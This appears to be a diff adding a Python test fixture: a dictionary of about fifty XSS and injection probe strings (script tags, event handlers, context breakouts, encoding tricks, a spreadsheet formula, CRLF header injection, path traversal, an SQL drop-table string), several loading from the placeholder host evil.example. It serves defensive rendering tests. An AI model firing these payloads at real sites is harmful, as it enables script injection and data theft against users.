@@ -1,0 +1,60 @@
+"""Texts that attack the page they are shown on, written by us: each would be seen if any part of it came alive.
+
+Whatever runs calls `alert`; whatever is built carries the attribute `data-hit`; whatever loads or leads elsewhere asks
+`evil.example`.
+"""
+
+_ALERT = "alert(1)"
+
+PAYLOADS: dict[str, str] = {
+    "script": f"<script data-hit>{_ALERT}</script>",
+    "script-remote": "<script data-hit src=//evil.example/x.js></script>",
+    "image": f"<img data-hit src=x onerror={_ALERT}>",
+    "image-remote": "<img data-hit src=http://evil.example/pixel.gif>",
+    "svg": f"<svg data-hit onload={_ALERT}><animate onbegin={_ALERT} attributeName=x dur=1s>",
+    "details": f"<details data-hit open ontoggle={_ALERT}>",
+    "double-quote": f'" data-hit autofocus onfocus={_ALERT} x="',
+    "single-quote": f"' data-hit autofocus onfocus={_ALERT} x='",
+    "no-quote": f" data-hit onmouseover={_ALERT} ",
+    "backtick": f"` data-hit onfocus={_ALERT} x=`",
+    "out-of-title": f"</title><script data-hit>{_ALERT}</script>",
+    "out-of-style": f"</style><img data-hit src=x onerror={_ALERT}><style>",
+    "out-of-script": f"</script><script data-hit>{_ALERT}</script>",
+    "out-of-json": f'"}}</script><img data-hit src=x onerror={_ALERT}>',
+    "out-of-textarea": f"</textarea><img data-hit src=x onerror={_ALERT}>",
+    "out-of-comment": f"--><img data-hit src=x onerror={_ALERT}><!--",
+    "out-of-cdata": f"]]><img data-hit src=x onerror={_ALERT}>",
+    "out-of-option": f"</option></select><img data-hit src=x onerror={_ALERT}>",
+    "out-of-table": f"</td></tr></table><img data-hit src=x onerror={_ALERT}>",
+    "base": "<base data-hit href=//evil.example/>",
+    "refresh": "<meta data-hit http-equiv=refresh content='0;url=http://evil.example/'>",
+    "style": "<style data-hit>@import url(http://evil.example/x.css); body { display: none }</style>",
+    "style-attribute": '" data-hit style="position:fixed;inset:0;background:url(http://evil.example/x)',
+    "stylesheet": "<link data-hit rel=stylesheet href=http://evil.example/x.css>",
+    "frame": "<iframe data-hit src=http://evil.example/></iframe>",
+    "frame-srcdoc": f'<iframe data-hit srcdoc="<script>parent.{_ALERT}</script>"></iframe>',
+    "object": "<object data-hit data=http://evil.example/x></object><embed data-hit src=http://evil.example/x>",
+    "form": "<form data-hit action=http://evil.example/><input name=q><button>",
+    "button": f"<button data-hit popovertarget=x formaction=javascript:{_ALERT}>",
+    "link": f"<a data-hit href=javascript:{_ALERT}>x</a>",
+    "javascript-address": f"javascript:{_ALERT}//",
+    "javascript-address-hidden": f"java\tscript:{_ALERT}",
+    "data-address": "data:text/html,<script>alert(1)</script>",
+    "protocol-relative": "//evil.example/x",
+    "web-address": 'http://evil.example/" data-hit onclick=alert(1) x="',
+    "entities": f"&lt;script data-hit&gt;{_ALERT}&lt;/script&gt;",
+    "entities-twice": f"&amp;lt;img data-hit src=x onerror={_ALERT}&amp;gt;",
+    "escapes": f"\\u003cimg data-hit src=x onerror={_ALERT}\\u003e",
+    "full-width": f"＜img data-hit src=x onerror={_ALERT}＞",  # compatibility forms: NFKC makes them real brackets
+    "small-forms": f"﹤script data-hit﹥{_ALERT}﹤/script﹥",
+    "template": "{{ 3 * 31337 }}${3*31337}#{3*31337}<%= 3*31337 %>",
+    "markdown": f"[x](javascript:{_ALERT}) ![x](http://evil.example/x.png)",
+    "formula": '=HYPERLINK("http://evil.example/","x")',
+    "header": "x\r\nX-Hit: 1\r\n\r\n<script data-hit>alert(1)</script>",
+    "nul": f"<scr\0ipt data-hit>{_ALERT}</scr\0ipt>",
+    "lines": "\u2028</script><script data-hit>alert(1)</script>\u2029",
+    "turned-round": f"\u202e<img data-hit src=x onerror={_ALERT}>\u202c",
+    "path": "../../../../etc/passwd%00<img data-hit src=x onerror=alert(1)>",
+    "sql": "'); drop table report; --<img data-hit src=x onerror=alert(1)>",
+    "long": "<img data-hit src=x onerror=alert(1)>" * 40,
+}
